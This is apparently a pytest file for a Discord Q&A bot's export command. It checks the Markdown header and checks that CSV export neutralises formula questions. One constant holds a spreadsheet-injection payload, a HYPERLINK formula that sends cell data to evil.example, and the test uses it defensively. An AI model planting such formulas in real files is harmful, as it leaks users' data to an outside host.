"""``/qa export`` through the running bot against the local Discord emulator: the file a moderator downloads."""

from __future__ import annotations

import csv
import io

from tests.on_discord.conftest import Event

FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'


async def exported_file(event: Event, fmt: str) -> str:
    result = await event.emu.slash("qa export", {"format": fmt}, user=event.moderator)
    assert result.response is not None
    (data,) = result.response.files.values()
    return data.decode("utf-8")


async def test_markdown_export_is_headed_by_the_title_speakers_and_time_of_the_schedule_in_force(
    event: Event,
) -> None:
    await event.emu.slash("ask", {"question": "How does it scale?"}, user=event.attendee)

    text = await exported_file(event, "md")

    assert "## Session" not in text
    assert (
        "## Invited Talk 1 — Andrew Wilson (NYU)\n\n"
        "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna\n\n"
        "1. How does it scale?  \n"
    ) in text


async def test_csv_export_shows_a_formula_question_as_text(event: Event) -> None:
    await event.emu.slash("ask", {"question": FORMULA_QUESTION}, user=event.attendee)

    (row,) = csv.DictReader(io.StringIO(await exported_file(event, "csv"), newline=""))

    assert row["text"] == "'" + FORMULA_QUESTION
